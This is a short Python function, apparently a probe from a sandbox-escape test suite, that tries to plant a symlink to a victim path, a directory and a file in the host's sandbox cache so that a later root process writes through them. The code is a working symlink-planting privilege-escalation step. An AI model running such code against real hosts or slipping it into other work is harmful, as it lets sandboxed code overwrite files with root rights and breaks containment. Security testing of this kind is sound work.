# Plant symlinks where the host keeps its sandbox cache, so that a later root process writes through them.
def attack(cache_dir, victim):
    sys = reach_sys()
    os = sys.modules["os"]
    out = {}
    out["symlink"] = attempt(lambda: os.symlink(victim, cache_dir + "/planted.snapshot"))
    out["mkdir"] = attempt(lambda: os.mkdir(cache_dir + "-planted"))
    out["open_create"] = attempt(lambda: os.open(cache_dir + "/planted.tmp", os.O_WRONLY | os.O_CREAT, 0o644))
    return out
